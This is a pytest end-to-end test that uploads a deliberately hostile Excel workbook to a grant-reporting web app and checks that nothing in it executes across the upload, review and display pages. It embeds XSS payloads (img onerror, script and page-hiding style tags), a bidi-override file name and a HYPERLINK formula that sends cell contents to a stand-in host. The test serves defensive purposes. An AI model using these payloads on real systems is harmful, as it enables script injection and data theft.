"""A grantee hands in a workbook with markup in everything it has; an officer reviews and approves it: nothing acts.

By clicks, as people do it: every cell, the head of a column, the name of the sheet and of the file, remarks, formats of
numbers and what the file says of itself hold markup, markdown, addresses, signs that turn a line around, a word that
does not break, and formulas that would fetch something.
"""

from __future__ import annotations

from collections.abc import Iterator
from datetime import date
from io import BytesIO

import pytest
from browsing import DESK, PHONE, Visitor, visiting
from openpyxl import Workbook
from openpyxl.comments import Comment
from planted_texts import PLANTED
from playwright.sync_api import Browser, FilePayload
from serving import serve
from sqlalchemy import create_engine
from sqlalchemy import text as sql
from stored import Stored
from traces import TRAP, faults

from impact.i18n import text
from impact.model.vocabulary.languages import Language
from pages.parts.layout.menu import Page

NL = Language.NL
# An image that calls the trap as soon as anything draws it, beside what the planted texts have.
IMAGE = '<img class="planted" src="x" onerror="x()"><script>x()</script><style>*{display:none}</style>'
HOSTILE = f"{IMAGE} {PLANTED} $\\planted$ :red[p] ![p](https://planted.example/p.png)"
SHEET = '<b class="planted">www.a.be'
FILE = f"{IMAGE[:40]} [p](planted.example) www.planted.example x@planted.example \u202e.xlsx".replace("/", "")
LINK = '=HYPERLINK("https://planted.example/?"&A1,"planted")'
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
UNFOLD = "document.querySelectorAll('details:not([open]) > summary').forEach(item => item.click())"
PERIOD = (date(2025, 1, 1), date(2025, 12, 31))


def hostile_workbook() -> bytes:
    """Two indicators, one with a value that is doubtful, in a workbook of which nothing is harmless."""
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = SHEET
    book.properties.title = book.properties.creator = book.properties.description = HOSTILE
    sheet.append((HOSTILE,))
    sheet.append(("Indicator", "Eenheid", "Begin", "Einde", "Waarde", "Doel", "Groep", "Opmerking", HOSTILE))
    sheet.append((f"Gezinnen {HOSTILE}", HOSTILE, *PERIOD, 41, 50, "", HOSTILE, LINK))
    sheet.append((f"Gezinnen {HOSTILE}", HOSTILE, *PERIOD, 12, None, f"Wijk {HOSTILE}", HOSTILE, HOSTILE))
    sheet.append((f"Lessen {HOSTILE}", HOSTILE, *PERIOD, f"7 {HOSTILE}", LINK, "", LINK, HOSTILE))
    sheet.append((LINK, LINK, *PERIOD, LINK, LINK, LINK, LINK, LINK))
    sheet["E3"].number_format = '0 "<b class=planted>"'
    for cell in ("A3", "E3", "E5"):
        sheet[cell].comment = Comment(HOSTILE, HOSTILE[:50])
    book.create_sheet(f"{SHEET} 2").append((HOSTILE, LINK))
    data = BytesIO()
    book.save(data)
    return data.getvalue()


@pytest.fixture(scope="module")
def stored(demo_master: Stored, tmp_path_factory: pytest.TempPathFactory) -> Stored:
    return demo_master.copy(tmp_path_factory.mktemp("hostile") / "data")


@pytest.fixture(scope="module")
def address(stored: Stored, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    log = tmp_path_factory.mktemp("hostile-log") / "server.log"
    with serve(stored, log) as served:
        yield served
    said = log.read_text("utf-8", "replace")
    assert "Traceback" not in said, said[-3000:]
    assert "planted" not in said


def read_one(stored: Stored, query: str) -> int:
    """A number that is in the database."""
    engine = create_engine(stored.url)
    with engine.connect() as connection:
        number = connection.execute(sql(query)).scalar_one()
    engine.dispose()
    return int(number)


def look(visitor: Visitor, where: str) -> list[str]:
    """What acts on the page as it stands; which one it is comes before each."""
    return [f"{where}: {fault}" for fault in faults(visitor)]


@pytest.mark.timeout(300)
def test_nothing_of_a_hostile_workbook_acts_from_upload_to_every_page(
    browser: Browser, address: str, stored: Stored
) -> None:
    found: list[str] = []
    with visiting(browser, address) as grantee, visiting(browser, address) as officer:
        for visitor, persona in ((grantee, "grantee-G12"), (officer, "officer")):
            visitor.page.add_init_script(TRAP)
            visitor.arrive().enter(persona)
        grantee.go(text(NL, "frame.page.upload")).begin_upload()
        grantee.page.locator("input[type=file]").set_input_files(
            FilePayload(name=FILE, mimeType=XLSX, buffer=hostile_workbook())
        )
        grantee.page.locator(".st-key-upload-confirm button").wait_for()
        grantee.settled()
        assert "planted" in grantee.words
        grantee.page.evaluate(UNFOLD)
        found += look(grantee.settled(), "upload")
        grantee.picture("hostile-upload")
        grantee.page.set_viewport_size(PHONE)
        found += look(grantee.settled(), "upload on a phone")
        grantee.page.set_viewport_size(DESK)
        grantee.settled().click(".st-key-upload-confirm button")
        grantee.page.locator(".st-key-upload-undo button").wait_for()
        found += look(grantee.settled(), "receipt")

        officer.go(text(NL, "frame.page.review"))
        found += look(officer, "queue")
        officer.page.locator(".st-key-waiting").get_by_role("link", name="Fietsloods").click()
        officer.page.locator(".st-key-review-approve button").wait_for()
        found += look(officer.settled(), "review")
        officer.click(".st-key-review-show button")
        found += look(officer, "the sheet in the review")
        officer.picture("hostile-review")
        approve = officer.page.locator(".st-key-review-approve button")
        officer.click_and_hear(approve, text(NL, "review.approved", name="Fietsloods Tandwielerij"))
        found += look(officer, "approved")

        organisation = read_one(stored, "SELECT max(id) FROM organisation WHERE name LIKE 'Fietsloods%'")
        indicator = read_one(stored, "SELECT min(id) FROM indicator WHERE title LIKE 'Gezinnen%planted%'")
        own = f"organisation={organisation}"
        for link in (
            f"/{Page.GRANTEE.value}?{own}", f"/{Page.GRANTEE.value}?{own}&present=true&section=2",
            f"/{Page.INDICATOR.value}?indicator={indicator}",
            *(f"/{Page.INDICATOR.value}?indicator={indicator}&present=true&section={at}" for at in (2, 3)),
            f"/{Page.THEORY.value}?{own}", f"/{Page.ALL_FIGURES.value}?search=planted", f"/{Page.PORTFOLIO.value}",
            f"/{Page.REVIEW.value}?all=true", "/",
        ):  # fmt: skip
            officer.follow(link)
            found += look(officer, link)
            # A slide that explains has its message as title, and not that of the indicator.
            if Page.INDICATOR.value in link and "section=2" not in link:
                assert "planted" in officer.words, link
        grantee.follow(f"/{Page.ENTER.value}")
        found += look(grantee, "entering")
    assert found == []
